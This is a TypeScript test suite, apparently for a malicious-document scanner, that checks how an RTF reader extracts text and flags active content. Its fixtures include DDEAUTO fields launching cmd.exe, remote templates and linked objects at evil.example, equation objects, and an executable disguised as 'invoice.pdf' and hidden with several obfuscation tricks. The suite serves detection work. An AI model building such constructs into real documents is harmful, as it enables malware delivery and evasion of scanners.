import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { contentOf } from '../../support/dissecting.ts';
import { EICAR } from '../../support/eicar.ts';
import { ole1Embedded, ole1Linked, packageData } from '../../support/ole-objects.ts';
import { documentReading } from '../../support/reading-documents.ts';

const read = await documentReading();

const object = (hex: string, more = ''): string =>
  `{\\rtf1 x{\\object\\objemb${more}{\\*\\objdata ${hex}}{\\result shown}}}`;
const eicar = Buffer.from(EICAR);
const file = ole1Embedded('Package', packageData('invoice.pdf', 'C:\\tmp\\invoice.exe', eicar)).toString('hex');
const field = (code: string, shown = 'shown'): string => `{\\field{\\*\\fldinst ${code}}{\\fldrslt ${shown}}}`;

describe('RTF', () => {
  const TEXTS: readonly (readonly [string, string, string, string?])[] = [
    ['joins what markup splits', '{\\rtf1 cr{\\b ed}it\\b0  card\\par next}', 'credit card\nnext'],
    ['begins with white space, or with less', ' \r\n{\\rt x}', 'x'],
    ['has code pages', "{\\rtf1\\ansi\\ansicpg1251 \\'cf\\'f0\\'e8}", 'При'],
    ['has fonts with charsets', "{\\rtf1{\\fonttbl{\\f0 A;}{\\f1\\fcharset128 B;}}\\f1 \\'83\\'41\\f0 b}", 'アb'],
    [
      'has Unicode, and what stands for it elsewhere',
      "{\\rtf1\\uc1 \\u1055?\\uc2\\u1088 ab{\\uc0\\u1080}\\u-3913\\'61\\'62c}",
      'При\uf0b7c',
    ],
    ['knows both halves of upr', '{\\rtf1{\\upr{ansi}{\\*\\ud{unicode}}}}', 'unicode'],
    [
      'passes over what it does not know',
      '{\\rtf1 a{\\*\\unknown b}{\\unknown c}{\\stylesheet{d;}}{\\pict 00ff}}',
      'ac',
    ],
    ['has characters of its own', '{\\rtf1 \\{a\\}\\~b\\emdash c\\\\}', '{a}\u00a0b\u2014c\\'],
    [
      'has headers, notes and boxes',
      '{\\rtf1{\\header h\\par}{\\footnote f}{\\shp{\\*\\shpinst{\\sp{\\sn n}{\\sv v}}{\\shptxt s}}}}',
      'h\nfs',
    ],
    [
      'hides',
      '{\\rtf1{\\colortbl;\\red255\\green255\\blue255;}a{\\v b}{\\cf1 c}{\\cf1\\highlight2 d}{\\fs2 e}f}',
      'adf',
      'bce',
    ],
    ['has properties', '{\\rtf1{\\info{\\title T}{\\author A}}x}', 'x', 'T'],
    ['skips binary data', '{\\rtf1 a{\\pict\\bin4 }}}}}b}', 'ab'],
    ['has braces too many', '{\\rtf1 a}} b', 'a b'],
  ];
  for (const [what, rtf, text, hidden = ''] of TEXTS) {
    it(what, async () => {
      const document = await read(rtf);
      assert.equal(document.root.detectedType, 'application/rtf');
      assert.equal(document.text, text);
      assert.equal(document.hidden, hidden);
    });
  }

  it('tells its links', async () => {
    const { links, flags, text } = await read(
      `{\\rtf1 ${field('HYPERLINK "http://evil.example/"', 'our {\\b bank}')}{\\*\\hl{\\hlsrc http://shape.example/}}` +
        `${field('INCLUDEPICTURE "https://pixel.example/1.png" \\\\d')}}`,
    );
    assert.deepEqual(
      links,
      ['http://shape.example/', 'http://evil.example/ <our bank>', 'https://pixel.example/1.png'].sort(
        (a, b) => links.indexOf(a) - links.indexOf(b),
      ),
    );
    assert.deepEqual(flags, ['note:external-link']);
    assert.equal(text, 'our bankshown');
  });

  const ACTIVE: readonly (readonly [string, string, string])[] = [
    ['DDE', `{\\rtf1 ${field('DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k"')}}`, 'active:dde'],
    ['DDE in pieces', `{\\rtf1 ${field('{\\b DD}{\\i E\\u65?}UTO cmd')}}`, 'active:dde'],
    ['DDE made of numbers', `{\\rtf1 ${field(`${field('QUOTE 68 68 69')} cmd`)}}`, 'active:dde'],
    ['a template', '{\\rtf1{\\*\\template http://evil.example/x.dotm}}', 'active:external-template'],
    ['a template by Unicode', '{\\rtf1{\\*\\template \\u104?ttp://evil.example/x}}', 'active:external-template'],
    ['a template nearby', '{\\rtf1{\\*\\template C:\\\\x.dot}}', 'note:external-link'],
    ['an object that updates itself', '{\\rtf1{\\object\\objautlink\\objupdate}}', 'active:external-object'],
    [
      'a linked object',
      object(ole1Linked('htmlfile', 'http://evil.example/').toString('hex')),
      'active:external-object',
    ],
    ['an equation', object(ole1Embedded('Equation.3', eicar).toString('hex')), 'active:equation-object'],
    ['an equation by its class', '{\\rtf1{\\object{\\*\\objclass Equation.3}}}', 'active:equation-object'],
  ];
  for (const [what, rtf, flag] of ACTIVE)
    it(`has ${what}`, async () => assert.deepEqual((await read(rtf)).flags, [flag]));

  const [head, rest] = [file.slice(0, 41), file.slice(41)];
  const HIDDEN: readonly (readonly [string, string])[] = [
    ['as it is', file],
    ['in lines and upper case', file.toUpperCase().replace(/(.{7})/g, '$1\r\n ')],
    ['with junk between', file.replace(/(.{9})/g, '$1 xyz!')],
    ['with words between', `${head}\\par\\foo12 \\ud ${rest}`],
    ['with groups between', `${head}{\\*\\foo 0102}{\\bar }${rest}`],
    ['in groups', `{${head}}{{${rest}}}`],
    ['with escapes that undo a digit', `${head.slice(0, 40)}7\\'11${head.slice(40)}${rest}`],
    ['behind bin', ''],
  ];
  for (const [how, hex] of HIDDEN) {
    it(`holds a file ${how}`, async () => {
      const octets = Buffer.from(file, 'hex');
      const binary = Buffer.concat([
        Buffer.from(`{\\rtf1{\\object{\\*\\objdata ${file.slice(0, 20)}\\bin${octets.length - 10} `),
        octets.subarray(10),
        Buffer.from('}}}'),
      ]);
      const { root, text } = await read(hex === '' ? binary : object(hex));
      const [part] = root.parts;
      assert.deepEqual(part?.names, ['invoice.pdf', 'invoice.exe']);
      assert.ok(part !== undefined && contentOf(part).equals(eicar));
      assert.equal(part.origin, 'embedded');
      if (hex !== '') assert.equal(text, 'xshown');
    });
  }

  it('holds compound files whatever stands before them', async () => {
    const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
    for (const data of [
      ole1Embedded('Word.Document.8', compound),
      Buffer.concat([Buffer.alloc(5, 255), compound]),
      compound,
    ]) {
      const { root } = await read(object(data.toString('hex')));
      assert.equal(root.parts[0]?.size, compound.length);
    }
    const store = await read(`{\\rtf1{\\*\\datastore ${compound.toString('hex')}}}`);
    assert.equal(store.root.parts.length, 1);
  });

  it('takes anything', async () => {
    const piece = fc.constantFrom(
      ..."{ } \\ \\* \\par \\u65 \\uc3 \\bin3 \\objdata \\fldinst \\fldrslt \\field \\upr \\ud \\fonttbl \\colortbl ; 01 \\' \\'8 \\f1 \\v \\object \\template a".split(
        ' ',
      ),
      ' ',
      '\0',
      '\xff',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 60 }), async (pieces) => {
        const { flags } = await read(`{\\rtf1 ${pieces.join('')}`);
        assert.ok(!flags.includes('unknown:reader-failed'));
      }),
      { numRuns: 300 },
    );
  });
});
